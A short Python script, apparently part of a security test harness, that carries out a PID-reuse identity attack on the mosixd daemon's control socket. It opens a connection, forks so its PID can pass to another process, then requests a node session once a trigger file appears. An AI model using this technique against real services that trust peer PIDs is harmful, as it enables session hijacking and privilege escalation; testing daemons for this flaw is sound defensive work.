"""opener: the attack on identity by PID. Connects to mosixd's control socket, forks, prints
the connecting process's PID and lets it exit, so that its PID can be given to another
process. The child keeps the connection; once GOFILE exists it asks for a session on NODE on
it, prints the reply and keeps the session socket open until GOFILE.end exists.
usage: opener.py SOCKET NODE GOFILE"""
import os
import socket
import sys
import time

path, node, go = sys.argv[1], int(sys.argv[2]), sys.argv[3]
sock = socket.socket(socket.AF_UNIX)
sock.connect(path)
if os.fork() != 0:
    print(os.getpid(), flush=True)
    os._exit(0)


def wait_for(name):
    for _ in range(60_000):
        if os.path.exists(name):
            return
        time.sleep(0.01)
    print("FAIL: no", name, flush=True)
    os._exit(1)


wait_for(go)
sock.sendall(b'{"open_session":{"node":%d}}\n' % node)
reply, fds, _, _ = socket.recv_fds(sock, 65536, 1)
print(reply.decode().strip(), "with", len(fds), "fd", flush=True)
wait_for(go + ".end")
